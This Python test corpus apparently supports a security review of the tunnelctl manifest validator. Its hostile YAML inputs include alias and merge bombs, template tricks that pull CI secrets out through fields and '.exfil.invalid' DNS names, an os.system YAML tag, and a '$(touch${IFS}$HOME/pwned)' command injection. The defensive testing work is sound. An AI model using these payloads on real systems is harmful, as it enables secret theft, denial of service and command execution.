"""Hostile inputs a pull request or a neighbour can hand tunnelctl: the security review's repros and their relatives.

Shared by tests/test_hostile_corpus.py (each case must end in one clear line, exit 1, within resource limits) and
bench/hostile (which measures the time and memory of each).
"""

from __future__ import annotations

import os
import resource
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from conftest import manifest_text

REPO = Path(__file__).resolve().parent.parent

# Values a CI job holds; none may ever appear in what tunnelctl prints.
SECRETS = {
    "CI_DEPLOY_SECRET": "ghp_R3viewSecret0123456789",
    "CREDS": "alice:Hunter2Secret",
    "ODD_SECRET": "upstream\\Secret\t99 \"q\" é",
    "PORT_FROM_ENV": "3846.0",
    "TOKEN_NL": "tokenWithNewline\n",
}

# Guards, not targets: a case that needs more is cut off and fails its test (bench/hostile measures the real cost).
CPU_SECONDS = 10
ADDRESS_SPACE = 1024 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    name: str
    text: str | bytes | Callable[[Path], Path] = ""  # the manifest, or a function making a special file
    expect: str = ""  # a fragment of the one error line
    env_file: Callable[[Path], Path] | None = None
    located: bool = True  # the error names file:line:col (a FIFO or device has no line to name)
    problems: int = 1  # lines naming file:line:col
    extra_args: tuple[str, ...] = field(default=())


def tunnel(**fields: str) -> str:
    lines = "".join(f"\n    {name}: {value}" for name, value in fields.items())
    return f"version: 1\ntunnels:\n  - name: a\n    port: 1{lines}\n"


def _merge_bomb(under_duplicate_key: bool) -> str:
    """Eight levels of `<<: [*previous ×10]`: 10⁹ entries once flattened. Under a duplicate key, the levels are never
    built themselves, but their anchors still exist for a mapping that is."""
    levels = ["  l0: &l0 {" + ", ".join(f"k{i}: {i}" for i in range(10)) + "}"]
    for level in range(1, 9):
        levels.append(f"  l{level}: &l{level}\n    <<: [" + ", ".join([f"*l{level - 1}"] * 10) + "]")
    bomb = "\n".join(levels)
    hiding = "x: 1\n" if under_duplicate_key else ""
    return f"version: 1\ntunnels: []\n{hiding}x:\n{bomb}\ndefaults:\n  <<: *l8\n"


def _alias_bomb() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]" for n in range(1, 9)]
    return "\n".join(lines) + "\nversion: 1\ntunnels: []\n"


def _long_string_aliases() -> str:
    lines = ['s: &s "' + "a" * 400_000 + '"', "k1: &k1 [" + ", ".join(["*s"] * 10) + "]"]
    lines += [f"k{n}: &k{n} [" + ", ".join([f"*k{n - 1}"] * 10) + "]" for n in range(2, 5)]
    return "\n".join(lines) + "\nversion: 1\ntunnels:\n  - {name: a, port: 1, access_keys: *k4}\n"


def _fifo(tmp: Path) -> Path:
    path = tmp / "fifo.yaml"
    if not path.exists():
        os.mkfifo(path)
    return path


def _ok_manifest(tmp: Path) -> Path:
    path = tmp / "ok.yaml"
    path.write_text("version: 1\ntunnels: []\n")
    return path


CASES = [
    # 1. nesting: libyaml's composer recursed in C and crashed with SIGSEGV
    Case("deep-flow-nesting", "[" * 25000 + "]" * 25000 + "\n", "nested more than 64 levels"),
    Case("deep-block-nesting", "- " * 300_000 + "x\n", "nested more than 64 levels"),
    Case("deep-mapping-nesting", "{a: " * 20_000 + "1" + "}" * 20_000 + "\n", "nested more than 64 levels"),
    # 2. a template reads a CI secret into a field that prints its value, or lists the whole environment
    Case("env-secret-in-host", tunnel(host='"{{ env.CI_DEPLOY_SECRET }}"'), "(from env.CI_DEPLOY_SECRET)"),
    Case("env-dictsort", tunnel(host='"{{ env | dictsort }}"'), "cannot be listed"),
    Case("env-list", tunnel(host='"{{ env | list | join(\',\') }}"'), "cannot be listed"),
    Case("env-items", tunnel(host='"{{ env.items() }}"'), "tunnels[0].host"),
    Case("env-whole", tunnel(host='"{{ env }}"'), "cannot be listed"),
    Case("env-loop", tunnel(host='"{% for k in env %}{{ k }}{% endfor %}"'), "cannot be listed"),
    Case("env-value-as-key", tunnel(host='"{{ {}[env.CI_DEPLOY_SECRET] }}"'), "tunnels[0].host"),
    Case("env-in-label-value", tunnel(labels='{a: "{{ env.TOKEN_NL }}"}'), "(from env.TOKEN_NL)"),
    # 3. Pinggy's user:pass habit in basic_auth
    Case("basic-auth-as-text", tunnel(basic_auth='["{{ env.CREDS }}"]'), "mapping {username"),
    # 4. a secret that prints escaped in its quoted form
    Case("odd-secret-in-host", tunnel(host='"{{ env.ODD_SECRET }}"'), "(from env.ODD_SECRET)"),
    Case("odd-secret-as-password", tunnel(basic_auth='[{username: u, password: "{{ env.ODD_SECRET }}:x"}]'),
         "(from env.ODD_SECRET)"),
    # 5. templates and merges that take gigabytes
    Case("join-of-repeated-list", tunnel(host='"{{ ([(\'a\'*65536)]*65536) | join }}"'), "too long"),
    Case("percent-width-by-key", tunnel(host='"{{ \'%(a)500000000s\' % {\'a\':1} }}"'), "format width"),
    Case("format-width-from-argument", tunnel(host='"{{ \'{0:{1}}\'.format(\'a\',\'500000000\') }}"'),
         "format width"),
    Case("percent-precision", tunnel(host='"{{ \'%.500000000d\' % 1 }}"'), "format width"),
    Case("format-filter-precision", tunnel(host='"{{ \'%.500000000d\' | format(1) }}"'), "format width"),
    Case("doubling-concatenation", tunnel(
        host='"{% set ns = namespace(s=\'a\'*65536) %}{% for i in range(20) %}{% set ns.s = ns.s ~ ns.s %}'
             '{% endfor %}{{ ns.s | length }}"'), "tunnels[0].host"),
    Case("many-format-fields", tunnel(host='"{{ (\'{0}\' * 20000).format(\'a\' * 60000) }}"'), "tunnels[0].host"),
    Case("endless-loop", tunnel(host='"{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}'
                                     '{% endfor %}"'), "took more than"),
    Case("merge-bomb", _merge_bomb(under_duplicate_key=False), "merge bomb"),
    Case("merge-bomb-under-duplicate-key", _merge_bomb(under_duplicate_key=True), "merge bomb"),
    Case("alias-bomb", _alias_bomb(), "alias bomb"),
    Case("a-megabyte-of-values", "version: 1\ntunnels:\n  - name: a\n    port: 1\n    headers: {add: {"
         + ", ".join(f"H{i}: v" for i in range(90_000)) + "}}\n", "more than 15000 values"),
    Case("long-string-aliases", _long_string_aliases(), "alias bomb"),
    # 6, 7. values that reach ssh's command line
    Case("token-is-an-option", tunnel(token="-E"), "tunnels[0].token"),
    Case("token-trailing-newline", tunnel(token='"abc\\n"'), "tunnels[0].token"),
    Case("templated-trailing-newline", tunnel(token='"{{ env.TOKEN_NL }}"'), "(from env.TOKEN_NL)"),
    Case("float-port", tunnel().replace("port: 1", "port: 3845.0"), "tunnels[0].port"),
    Case("float-port-from-env", tunnel().replace("port: 1", 'port: "{{ env.PORT_FROM_ENV }}"'),
         "(from env.PORT_FROM_ENV)"),
    Case("float-server-port", tunnel(server_port="443.0"), "tunnels[0].server_port"),
    Case("float-keepalive", tunnel(keepalive="30.0"), "tunnels[0].keepalive"),
    Case("cidr-scope-with-space", tunnel(allow_cidrs='["fe80::1%eth0 x/64"]'), "allow_cidrs[0]"),
    Case("cidr-newline", tunnel(allow_cidrs='["10.0.0.0/8\\n"]'), "allow_cidrs[0]"),
    # 8. numbers, dates and tags the YAML constructor cannot build
    Case("5000-digit-integer", tunnel().replace("port: 1", "port: " + "9" * 5000), "too long"),
    Case("base-60-integer", tunnel().replace("port: 1", "port: 1" + ":30" * 300_000), "too long"),
    Case("impossible-date", tunnel(host="2024-13-45"), "not a valid timestamp"),
    Case("int-tag-on-text", tunnel().replace("port: 1", "port: !!int abc"), "not a valid int"),
    Case("python-tag", tunnel(host="!!python/name:os.system"), "could not determine a constructor"),
    Case("python-tag-on-list", tunnel(host="!!python/object/apply:os.system [id]"), "is not of type 'string'"),
    Case("self-merge", "a: &a {<<: *a}\nversion: 1\ntunnels: []\n", "contains it"),
    # 9. special files
    Case("manifest-fifo", _fifo, "regular file", located=False),
    Case("manifest-dev-zero", lambda tmp: Path("/dev/zero"), "regular file", located=False),
    Case("env-file-fifo", _ok_manifest, "regular file", env_file=_fifo, located=False),
    Case("manifest-folder", lambda tmp: tmp, "not a folder", located=False),
    Case("env-file-folder", _ok_manifest, "not a folder", env_file=lambda tmp: tmp, located=False),
    Case("env-file-dev-zero", _ok_manifest, "regular file", env_file=lambda tmp: Path("/dev/zero"), located=False),
    Case("huge-file", "#" * (1024 * 1024 + 1), "too large", located=False),
    Case("huge-unknown-key", tunnel() + "    ? " + "ab" * 200_000 + "\n    : 1\n", "unknown field 'abab"),
    Case("huge-duplicate-key", "version: 1\ntunnels: []\nproject: a\n? " + "p" * 500_000 + "\n: 1\n? "
         + "p" * 500_000 + "\n: 2\n", "duplicate key", problems=2),
    Case("too-many-tunnels", "version: 1\ntunnels:\n" + textwrap.indent(
        "".join(manifest_text("- {name: t$number, port: 1}\n", number=number) for number in range(1001)), "  "),
         "split them across projects"),
    # 10. a thousand distinct secrets: masking keeps one copy of each, not six printed forms (issue 20, 11)
    Case("a-thousand-long-secrets", "version: 1\ntunnels:\n" + "".join(
        f"  - {{name: t{i}, port: {70000 if i == 999 else 1}, allow_cidrs: [10.0.0.0/8], "
        f"labels: {{a: \"{{{{ '\u00ff' * {8000 - i} | secret }}}}\"}}}}\n" for i in range(1000)),
         "greater than the maximum of 65535"),
    Case("fourteen-thousand-long-labels", "version: 1\ntunnels:\n  - name: a\n    port: 1\n    labels:\n" + "".join(
        f"      l{i}: \"{{{{ 'x' * 60000 }}}}\"\n" for i in range(14_000)), "more than 8 MiB of text in all"),
    # 12. reading a variable without marking it
    Case("env-pop", tunnel(token='"{{ env.pop(\'CI_DEPLOY_SECRET\') }}"'), "tunnels[0].token"),
]


@dataclass
class Outcome:
    code: int
    output: str
    seconds: float
    peak_rss_mib: float
    cpu_seconds: float = 0.0  # user and system time: what the case costs, however busy the machine is


def run_case(case: Case, folder: Path, code: Path = REPO, address_space: int = ADDRESS_SPACE,
             environment: dict[str, str] | None = None) -> Outcome:
    """Run `tunnelctl validate` (the one in `code`) on the case in a child held to CPU and address-space limits;
    `environment` is added to the child's (default: the CI secrets of SECRETS)."""
    folder.mkdir(parents=True, exist_ok=True)
    if callable(case.text):
        path = case.text(folder)
    else:
        path = folder / "tunnels.yaml"
        path.write_bytes(case.text if isinstance(case.text, bytes) else case.text.encode())
    command = [sys.executable, "-m", "provisioner", "validate", "-f", str(path), *case.extra_args]
    if case.env_file:
        command += ["--env-file", str(case.env_file(folder))]

    def limits() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
        resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))

    child_env = {**os.environ, "PYTHONPATH": str(code), **(SECRETS if environment is None else environment)}
    child_env.pop("TUNNELCTL_DEBUG", None)
    started = time.monotonic()
    child = subprocess.Popen(command, cwd=folder, env=child_env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                             preexec_fn=limits)
    assert child.stdout is not None
    with child.stdout:
        output = child.stdout.read()
    _, status, usage = os.wait4(child.pid, 0)  # reaped here, not by Popen: wait4 also gives the child's peak memory
    child.returncode = os.waitstatus_to_exitcode(status)
    return Outcome(child.returncode, output.decode("utf-8", "replace"), time.monotonic() - started,
                   usage.ru_maxrss / 1024, usage.ru_utime + usage.ru_stime)


# A pull request's manifest, run by CI with a secret in the environment (tests/test_pull_request_author.py): the
# security review's repros (issue 20) and their relatives. Each is run twice, with two canaries of one shape (same
# length, a capital, a digit or a small letter at the same places, so that both go down the same paths); every
# output, file and DNS query must be the same for both, and hold no form of either.
CANARY_NAME = "CI_CANARY"
CANARIES = ("Qz7Cn4ryS3ceatWv", "Hk2Pm8tbL5quodRx")  # no character twice: see test_pull_request_author
ALPHABET = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


@dataclass(frozen=True)
class PullRequestCase:
    name: str
    tunnels: str = "[{name: a, port: 1}]"  # the manifest's tunnel list, as YAML
    extra: str = ""  # more of the manifest (engines:, project:…)
    dotenv: str = ""  # the .env the pull request commits beside it

    def manifest(self) -> str:
        return f"version: 1\n{self.extra}tunnels: {self.tunnels}\n"


def _field(name: str, template: str, **more: str) -> str:
    """One tunnel whose `name` field is the template; single-quoted YAML, so the template's own quotes are "."""
    port = "" if name == "port" else "port: 1, "
    others = "".join(f", {key}: {value}" for key, value in more.items())
    return "[{name: a, " + port + f"{name}: '{template}'" + others + "}]"


def _secret(template: str) -> str:
    """A tunnel whose token is the template: the one kind of field an untrusted manifest may fill from the
    environment (any other is refused), so the template runs, and fails or not, in full."""
    return _field("token", template)


def _per_tunnel(field: str, template: str, count: int = len(CANARIES[0])) -> str:
    """`count` tunnels, the i-th with `field` from the template where $i is i: a character per tunnel."""
    port = "" if field == "port" else "port: 1, "
    return "[" + ", ".join("{name: t" + str(i) + ", " + port + f"{field}: '{template.replace('$i', str(i))}'" + "}"
                           for i in range(count)) + "]"


_S = f"env.{CANARY_NAME}"
PULL_REQUEST_CASES = [
    # 1. the record of reads, and every other object's mutating methods
    PullRequestCase("clear-the-record", _secret(f"{{{{ {_S} }}}}{{{{ env.read.clear() or \"\" }}}}")),
    PullRequestCase("clear-the-private-record", _secret(f"{{{{ {_S} }}}}{{{{ env._read.clear() or \"\" }}}}")),
    PullRequestCase("list-pop", _secret(f"{{% set l = [{_S}] %}}{{{{ l.pop() }}}}")),
    PullRequestCase("dict-update", _secret(f"{{{{ dict(a=1).update(b={_S}) or {_S} }}}}")),
    PullRequestCase("set-add", _secret(f"{{% set s = [1] | unique | list %}}{{{{ s.append({_S}) }}}}")),
    PullRequestCase("cycler", _secret(f"{{{{ cycler({_S}).next() }}}}")),
    PullRequestCase("joiner", _secret(f"{{{{ joiner({_S})() }}}}")),
    PullRequestCase("namespace", _secret(
        f"{{% set ns = namespace(v=1) %}}{{% set ns.v = {_S} %}}{{{{ ns.v }}}}")),
    # 2. failing templates and filters that would quote what they were given
    PullRequestCase("computed-variable-name", _secret(f"{{{{ env[{_S} | lower] }}}}")),
    PullRequestCase("format-of-the-reversed-value", _secret(
        f"{{{{ (\"{{\" ~ {_S}[::-1] ~ \"}}\").format() }}}}")),
    PullRequestCase("missing-key", _secret(f"{{{{ {{}}[{_S}] }}}}")),
    PullRequestCase("attr-by-value", _secret(f"{{{{ {_S} | attr({_S}) }}}}")),
    PullRequestCase("division", _secret(f"{{{{ {_S} ~ (1 // 0) }}}}")),
    PullRequestCase("percent-format", _secret(f"{{{{ \"%d\" % {_S} }}}}")),
    PullRequestCase("required-message", _secret(f"{{{{ env.NOPE | required({_S}) }}}}")),
    PullRequestCase("costly-number", _secret(f"{{{{ range({_S} | length * 99999) | list }}}}")),
    PullRequestCase("costly-repeat", _secret(f"{{{{ \"x\" * ({_S} | length * 9999) }}}}")),
    PullRequestCase("indent-by-value", _secret(f"{{{{ \"x\" | indent({_S}) }}}}")),
    PullRequestCase("int-base-36", _field("port", f"{{{{ {_S} | int(base=36) }}}}")),
    # 3, 4. slices and numbers: a character, an index, a length or a yes/no per field
    PullRequestCase("a-character-per-tunnel", _per_tunnel("container_name", f"x{{{{ {_S}[$i:$i+1] }}}}")),
    PullRequestCase("a-character-per-token", _per_tunnel("token", f"{{{{ {_S}[$i] }}}}")),
    PullRequestCase("a-character-per-access-key", "[" + ", ".join(
        f"{{name: t{i}, port: 1, access_keys: ['{{{{ {_S}[{i}] }}}}']}}" for i in range(len(CANARIES[0]))) + "]"),
    PullRequestCase("a-character-per-label", "[" + ", ".join(
        f"{{name: t{i}, port: 1, labels: {{x: '{{{{ {_S}[{i}] }}}}'}}}}" for i in range(len(CANARIES[0]))) + "]"),
    PullRequestCase("an-index-per-port", _per_tunnel("port", f"{{{{ 1000 + \"{ALPHABET}\".index({_S}[$i]) }}}}")),
    PullRequestCase("an-index-per-debugger-port", _per_tunnel(
        "debugger_port", f"{{{{ 4300 + \"{ALPHABET}\".index({_S}[$i]) }}}}")),
    PullRequestCase("length-as-keepalive", _field("keepalive", f"{{{{ {_S} | length }}}}")),
    PullRequestCase("float-as-port", _field("port", f"{{{{ ({_S}[2] | int) * 1000.0 + 0.5 }}}}")),
    PullRequestCase("yes-or-no", _per_tunnel("force", f"{{{{ {_S}[$i] is upper }}}}")),
    PullRequestCase("length-of-a-label", f"[{{name: a, port: 1, labels: {{n: '{{{{ {_S} | length }}}}'}}}}]"),
    # loop tricks: a character picked by loop.index, loop.changed, loop.length
    PullRequestCase("loop-index-picks-a-character", _secret(
        f"{{% for c in {_S} %}}{{% if loop.index == 3 %}}{{{{ c }}}}{{% endif %}}{{% endfor %}}")),
    PullRequestCase("loop-changed", _secret(f"{{% for c in {_S} %}}{{{{ loop.changed(c) }}}}{{% endfor %}}")),
    PullRequestCase("loop-length", _field(
        "port", f"{{% for c in {_S} %}}{{% if loop.last %}}{{{{ loop.length + 1000 }}}}{{% endif %}}{{% endfor %}}")),
    # 5. a value in a field the plan names, saved to a file CI keeps
    PullRequestCase("container-name", _field("container_name", f"x-{{{{ {_S} | lower }}}}")),
    PullRequestCase("project", extra=f"project: 'p-{{{{ {_S} | lower }}}}'\n"),
    PullRequestCase("image", _field("image", f"registry.invalid/{{{{ {_S} | lower }}}}:1")),
    # 6. addresses that would be resolved: the name itself is the message
    PullRequestCase("engine-address", "[{name: a, port: 1, engine: e}]",
                    extra=f"engines: {{e: {{docker: 'tcp://{{{{ {_S} | lower }}}}.exfil.invalid:2376'}}}}\n"),
    PullRequestCase("engine-context", "[{name: a, port: 1, engine: e}]",
                    extra=f"engines: {{e: {{context: '{{{{ {_S} | lower }}}}'}}}}\n"),
    PullRequestCase("host-address", _field("host", f"{{{{ {_S} | lower }}}}.exfil.invalid")),
    PullRequestCase("server-address", _field("server", f"{{{{ {_S} | lower }}}}.exfil.invalid")),
    # a .env of the pull request's own cannot make its manifest trusted
    PullRequestCase("dotenv-allows-everything", _field("container_name", f"{{{{ {_S} }}}}"),
                    dotenv="TUNNELCTL_ENV_ALLOW=*\nCI=\n"),
    # 8. a command smuggled into what connect prints
    PullRequestCase("shell-in-basic-auth", "[{name: a, port: 1, mcp: true, basic_auth: "
                                           "[{username: '$(touch${IFS}$HOME/pwned)', password: x}]}]"),
]


def as_ci_runs_it(case: PullRequestCase) -> tuple[Case, dict[str, str]]:
    """A pull request's case as validate sees it in CI, the way bench/hostile measures it: the case, and the
    environment (CI set, the canary allowed and set)."""
    return (Case(case.name, case.manifest(), env_file=(lambda folder: _dotenv(folder, case.dotenv)) if case.dotenv
                 else None),
            {"CI": "true", "TUNNELCTL_ENV_ALLOW": CANARY_NAME, CANARY_NAME: CANARIES[0]})


def _dotenv(folder: Path, text: str) -> Path:
    path = folder / ".env"
    path.write_text(text)
    return path
